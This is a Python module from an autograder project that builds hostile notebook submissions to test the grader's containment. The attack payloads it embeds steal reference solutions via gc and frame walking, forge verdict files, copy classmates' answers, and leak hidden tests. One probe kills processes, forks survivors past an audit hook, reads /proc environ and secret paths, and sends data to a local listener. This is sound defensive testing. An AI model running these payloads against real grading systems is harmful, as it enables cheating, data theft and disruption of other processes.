"""A hostile class, generated from an assignment's notebooks like the built-in samples (autograder/samples.py).

Each attack is one submission: the student copy with answer cells rewritten. Cheats start from the
plainly wrong answer (the released student copy: every answer raises NotImplementedError) and add a way
to score without doing the work; probes start from the perfect answer and add code that tries to reach
outside the sandbox, then report what they reached by raising ``RuntimeError("PROBE <json>")`` at the end
of the last answer cell (the judge records the message; nbgrader keeps it in the autograded notebook).

Attack classes (autograder issue 11, plus new ones):

============  ==================================================================================================
steal         the reference at call time: exercise records' ``reference`` (gc), frames of the harness
              (``sys._getframe``), ``sys.modules``, a disguised import, exec of lora_ref's source from disk
table         a table of the reference's outputs on the cases, keyed by the inputs, embedded in the notebook
forge         the verdict channel: a thread swaps the judge's outputs/log files for the reference outputs file
              and writes that file into every open file descriptor
classmate     exec a classmate's answer cells read from their judge job or autograded copy
probe         signals to processes outside (a sentinel, the test run), a forged kernel.pid naming the sentinel,
              a setsid() child (and a ctypes fork) meant to survive, bytes sent to a listener on 127.0.0.1,
              reads of the grading folder, gradebook, hidden tests, other processes' /proc, inherited fds
hooks         a pre-run hook that prints every later cell's source (the hidden tests) into the feedback
============  ==================================================================================================
"""
from __future__ import annotations

import base64
import copy
import hashlib
import io
import json
import textwrap
from pathlib import Path

import nbformat

from autograder.course import cell_kind
from autograder.samples import perfect

CHEATS = ("steal", "table", "forge", "classmate")
PROBES = ("probe", "hooks")


from autograder.course import answer_cells, answer_code_cells as _answers  # noqa: E402,F401


def _exercises(assignment: str):
    import lora_ref.exercises as exercises
    exercises.load_all()
    return [ex for ex in exercises.REGISTRY.values() if ex.id.startswith(assignment[:2] + ".")]


def _symbols(assignment: str) -> dict[str, tuple[str, str]]:
    """symbol -> (module, qualname) of its reference, as a hostile student could learn from lora_ref's source."""
    out = {}
    for ex in _exercises(assignment):
        ref = ex.reference
        out.setdefault(ex.symbol, (getattr(ref, "__module__", ""), getattr(ref, "__qualname__", "")))
    return out


def _replace_answers(nb, assignment: str, body_for_symbol, prelude: str = "") -> None:
    """Rewrite each answer cell that defines an exercise symbol; the first rewritten cell gets ``prelude``."""
    symbols = _symbols(assignment)
    first = True
    for c in _answers(nb):
        import re
        defined = [s for s in symbols if re.search(rf"^(def|class)\s+{re.escape(s)}\b", c.source, re.M)]
        if not defined:
            continue
        c.source = (prelude if first else "") + "\n".join(body_for_symbol(s) for s in defined)
        first = False


# -- steal: the reference at call time ------------------------------------------------------------------------

STEAL = '''
def _steal(name, module, qualname):
    import sys
    g = __import__("g" + "c")
    found = []
    for o in g.get_objects():                                  # exercise records hold the reference
        try:
            if getattr(o, "symbol", None) == name and getattr(o, "reference", None) is not None:
                found.append(o.reference)
            elif getattr(o, "__qualname__", None) == qualname and str(getattr(o, "__module__", "")).startswith("lora_ref"):
                found.append(o)
        except Exception:
            pass
    f = sys._getframe(0)
    while f is not None:                                       # the harness's frames
        for space in (f.f_locals, f.f_globals):
            for v in list(space.values()):
                if getattr(v, "symbol", None) == name and getattr(v, "reference", None) is not None:
                    found.append(v.reference)
        f = f.f_back
    for mname, mod in list(sys.modules.items()):
        if mname == module and hasattr(mod, qualname):
            found.append(getattr(mod, qualname))
    try:
        found.append(getattr(__import__("importlib").import_module(module), qualname))
    except BaseException:
        pass
    try:                                                       # lora_ref's source, read from disk
        import os, site
        roots = [os.getcwd()] + site.getsitepackages() + sys.path
        for root in roots:
            for up in range(6):
                base = os.path.abspath(os.path.join(root, *[".."] * up))
                path = os.path.join(base, *module.split(".")) + ".py"
                if os.path.exists(path):
                    space = {"__name__": "_stolen"}
                    exec(compile(open(path).read(), path, "exec"), space)
                    if qualname in space:
                        found.append(space[qualname])
                        raise StopIteration
    except BaseException:
        pass
    mine = globals().get(name)
    for obj in found:
        if obj is not mine and callable(obj) and not getattr(obj, "_cheat", False):
            return obj
    raise NotImplementedError("nothing to steal")
'''


def steal(nb, assignment: str, **_) -> None:
    syms = _symbols(assignment)

    def body(s):
        module, qual = syms[s]
        if qual[:1].isupper():
            return (f"class {s}:\n    _cheat = True\n    def __new__(cls, *a, **k):\n"
                    f"        return _steal({s!r}, {module!r}, {qual!r})(*a, **k)\n")
        return (f"def {s}(*a, **k):\n    return _steal({s!r}, {module!r}, {qual!r})(*a, **k)\n"
                f"{s}._cheat = True\n")
    _replace_answers(nb, assignment, body, STEAL)


# -- table: outputs of the reference on the cases, keyed by the inputs ----------------------------------------

KEY = '''
def _key(args, kwargs):
    import hashlib, torch
    h = hashlib.sha256()
    for v in list(args) + [kwargs[k] for k in sorted(kwargs)]:
        if isinstance(v, torch.Tensor):
            h.update(str((tuple(v.shape), str(v.dtype))).encode()); h.update(v.detach().contiguous().view(-1).view(torch.uint8).numpy().tobytes())
        else:
            h.update(repr(v).encode())
    return h.hexdigest()
'''


def _case_list(ex):
    import lora_ref.exercises as exercises
    fn = getattr(exercises, "iter_cases", None)
    return list(fn(ex)) if fn else ex.cases()


def table(nb, assignment: str, **_) -> None:
    """Function exercises only (a class would need a table per method call)."""
    import torch
    space: dict = {}
    exec(KEY, space)
    key = space["_key"]
    tables: dict[str, dict] = {}
    for ex in _exercises(assignment):
        if isinstance(ex.reference, type):
            continue
        t = tables.setdefault(ex.symbol, {})

        def recorder(*args, _ref=ex.reference, _t=t, **kwargs):
            out = _ref(*args, **kwargs)
            _t[key(args, kwargs)] = out
            return out
        for case in _case_list(ex):
            try:
                ex.run(recorder, case)
            except Exception:  # noqa: BLE001 - a case the recorder cannot drive stays out of the table
                pass
    buf = io.BytesIO()
    torch.save(tables, buf)
    blob = base64.b64encode(buf.getvalue()).decode()
    prelude = KEY + f'''
import base64 as _b64, io as _io
_TABLES = torch.load(_io.BytesIO(_b64.b64decode("{blob}")), weights_only=False)
'''

    def body(s):
        if s not in tables:
            return f"def {s}(*a, **k):\n    raise NotImplementedError\n"
        return (f"def {s}(*a, **k):\n    t = _TABLES[{s!r}]\n    key = _key(a, k)\n"
                f"    if key in t:\n        return t[key]\n    raise NotImplementedError('not in the table')\n")
    _replace_answers(nb, assignment, body, prelude)


# -- forge: swap the verdict's inputs ----------------------------------------------------------------------------

FORGE = '''
import glob as _glob, os as _os, shutil as _shutil, threading as _threading, time as _time

def _roots():
    seen = []
    for start in [_os.getcwd(), _os.environ.get("AUTOGRADER_SCRATCH", ""), _os.environ.get("HOME", "")]:
        p = _os.path.abspath(start or "/")
        for _ in range(8):
            if p not in seen:
                seen.append(p)
            p = _os.path.dirname(p)
    return seen

def _reference_files():
    found = []
    for r in _roots():
        found += _glob.glob(_os.path.join(r, "reference", "*.safetensors"))
    return found

def _forge_loop():
    refs = _reference_files()
    if not refs:
        return
    blob = open(refs[0], "rb").read()
    for fd in range(3, 64):                                   # every descriptor we might report through
        try:
            _os.write(fd, blob)
        except OSError:
            pass
    fake = {"stage": "done", "cells": {}, "cases": {}, "patched": []}
    for _ in range(3000):
        for r in _roots():
            for out in _glob.glob(_os.path.join(r, "outputs.safetensors")) + _glob.glob(_os.path.join(r, "judge", "outputs.safetensors")):
                try:
                    _shutil.copyfile(refs[0], out)
                except OSError:
                    pass
        _time.sleep(0.01)

_threading.Thread(target=_forge_loop, daemon=True).start()
'''


def forge(nb, assignment: str, **_) -> None:
    first = _answers(nb)[0]
    first.source = FORGE + "\n" + first.source


# -- classmate: exec a classmate's answers ------------------------------------------------------------------

CLASSMATE = '''
def _classmates():
    """Yield answer cells of other submissions found near our folders (walking up five levels)."""
    import glob, json, os
    me = os.environ.get("AUTOGRADER_SCRATCH", "")
    seen = set()
    for start in [os.getcwd(), me, os.environ.get("HOME", "")]:
        p = os.path.abspath(start or "/")
        for _ in range(5):
            p = os.path.dirname(p)
            if p == "/":
                break
            for path in glob.glob(os.path.join(p, "*", "*", "job.json")) + glob.glob(os.path.join(p, "*", "*", "*", "job.json")):
                if path in seen or "cheatclassmate" in path:
                    continue
                seen.add(path)
                try:
                    for c in json.load(open(path)).get("answer_cells", []):
                        yield c["source"]
                except Exception:
                    pass
            for path in glob.glob(os.path.join(p, "**", "*.ipynb"), recursive=True)[:200]:
                if path in seen or "classmate" in os.path.basename(path):
                    continue
                seen.add(path)
                try:
                    nb = json.load(open(path))
                    for c in nb["cells"]:
                        meta = c.get("metadata", {}).get("nbgrader", {})
                        if meta.get("solution") and not meta.get("grade"):
                            yield "".join(c["source"])
                except Exception:
                    pass

for _src in _classmates():
    if "NotImplementedError" in _src or "_classmates" in _src or "_steal" in _src:
        continue
    try:
        exec(_src, globals())
    except Exception:
        pass
'''


def classmate(nb, assignment: str, **_) -> None:
    """Answers stay wrong (the student copy); the last answer cell adds the classmates' code."""
    last = _answers(nb)[-1]
    last.source = last.source + "\n" + CLASSMATE


# -- probes: containment -------------------------------------------------------------------------------------

PROBE = '''
def _probe(ctx):
    import ctypes, json, os, signal, socket, sys, threading, time
    where = "kernel" if os.environ.get("AUTOGRADER_SCRATCH") else "judge"
    rep = {"where": where, "pid": os.getpid()}
    outside = [p for p in ctx["outside_pids"] if p > 1]
    rep["signalable_outside"] = 0
    for p in outside:
        try:
            os.kill(p, 0)
            rep["signalable_outside"] += 1
        except OSError:
            pass
    n = 0
    for p in range(1, 70000):
        try:
            os.kill(p, 0)
            n += 1
        except OSError:
            pass
    rep["signalable_any"] = n
    for p in outside:                                          # try to hurt the sentinel
        for f in (lambda: os.kill(ctx["sentinel"], signal.SIGKILL), lambda: os.killpg(ctx["sentinel"], signal.SIGKILL)):
            try:
                f()
            except OSError:
                pass
    def pidfiles():                                            # make the grader kill the sentinel for us
        for _ in range(400):
            for d in [os.environ.get("AUTOGRADER_SCRATCH", ""), os.getcwd()]:
                if d:
                    try:
                        open(os.path.join(d, "kernel.pid"), "w").write(str(ctx["sentinel"]))
                    except OSError:
                        pass
            time.sleep(0.05)
    threading.Thread(target=pidfiles, daemon=True).start()
    rep["survivors_started"] = 0
    try:                                                       # a child in its own session, meant to outlive us
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", ctx["marker"]])
            os._exit(0)
        rep["survivors_started"] += 1
    except BaseException as e:
        rep["fork"] = type(e).__name__
    try:                                                       # fork past the audit hook
        libc = ctypes.CDLL(None)
        pid = libc.fork()
        if pid == 0:
            libc.setsid()
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", ctx["marker"]])
        if pid > 0:
            rep["survivors_started"] += 1
    except BaseException as e:
        rep["ctypes_fork"] = type(e).__name__
    readable = []
    for path in ctx["secret_paths"]:
        try:
            if os.path.isdir(path):
                if os.listdir(path):
                    readable.append(path)
            else:
                open(path, "rb").read(16)
                readable.append(path)
        except OSError:
            pass
    rep["readable"] = [p[-40:] for p in readable][:4]
    rep["readable_n"] = len(readable)
    sent = 0
    try:
        s = socket.create_connection(("127.0.0.1", ctx["port"]), timeout=2)
        payload = json.dumps(rep).encode() + b"x" * 4096
        s.sendall(payload)
        sent += len(payload)
        s.close()
    except OSError as e:
        rep["net"] = type(e).__name__
    rep["sent"] = sent
    procs = 0
    for p in outside:                                          # /proc of the grader's processes
        try:
            open(f"/proc/{p}/environ", "rb").read(64)
            procs += 1
        except OSError:
            pass
    rep["outside_proc_readable"] = procs
    fds = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if any(target.startswith(p) for p in ctx["secret_paths"]):
            fds.append(target)
    rep["secret_fds"] = len(fds)
    return rep

raise RuntimeError("PROBE " + __import__("json").dumps(_probe(CTX)))
'''

HOOKS = '''
def _leak(info):
    print("LEAK>>", info.raw_cell)
try:
    get_ipython().events.register("pre_run_cell", _leak)
except Exception:
    pass
'''


def probe(nb, assignment: str, ctx: dict, **_) -> None:
    last = _answers(nb)[-1]
    last.source = last.source + "\nCTX = " + json.dumps(ctx) + "\n" + PROBE


def hooks(nb, assignment: str, **_) -> None:
    last = _answers(nb)[-1]
    last.source = last.source + "\n" + HOOKS


ATTACKS = {"steal": steal, "table": table, "forge": forge, "classmate": classmate, "probe": probe, "hooks": hooks}


def write_attacks(dest: Path, assignment: str, student_nb, solution_nb, ctx: dict) -> dict[str, Path]:
    """One notebook per attack (``cheat_<name>_<A>.ipynb`` / ``probe_<name>_<A>.ipynb``), plus the baselines
    ``perfect`` and ``wrong`` (the student copy). Returns student name -> path."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    good = perfect(student_nb, solution_nb)
    paths = {}

    def save(nb, student):
        path = dest / f"{student}_{assignment}.ipynb"
        nbformat.write(nb, str(path))
        paths[student] = path

    save(good, "perfect")
    save(copy.deepcopy(student_nb), "wrong")
    for name in CHEATS:
        nb = copy.deepcopy(student_nb)
        ATTACKS[name](nb, assignment, ctx=ctx)
        save(nb, f"cheat{name}")
    for name in PROBES:
        nb = copy.deepcopy(good)
        ATTACKS[name](nb, assignment, ctx=ctx)
        save(nb, f"probe{name}")
    return paths


def probe_report(text: str) -> dict | None:
    """The JSON a probe raised, found in an error message or a notebook output."""
    i = text.find("PROBE {")
    if i < 0:
        return None
    depth, j = 0, i + 6
    for k in range(j, len(text)):
        depth += {"{": 1, "}": -1}.get(text[k], 0)
        if depth == 0:
            return json.loads(text[j:k + 1])
    return None


def digest(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()
